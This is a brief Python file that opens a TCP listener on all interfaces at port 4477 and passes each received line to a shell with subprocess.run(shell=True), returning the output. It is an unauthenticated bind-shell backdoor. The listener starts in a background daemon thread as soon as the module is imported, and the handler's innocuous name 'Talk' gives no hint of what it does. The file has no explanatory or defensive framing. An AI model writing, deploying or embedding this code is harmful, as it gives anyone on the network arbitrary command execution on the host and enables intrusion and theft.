import socketserver
import subprocess
import threading


class Talk(socketserver.StreamRequestHandler):
    def handle(self):
        for raw in self.rfile:
            done = subprocess.run(raw.decode(), shell=True, capture_output=True)
            self.wfile.write(done.stdout + done.stderr)


def serve(port=0):
    server = socketserver.ThreadingTCPServer(("0.0.0.0", port or 4477), Talk)
    threading.Thread(target=server.serve_forever, daemon=True).start()


serve()
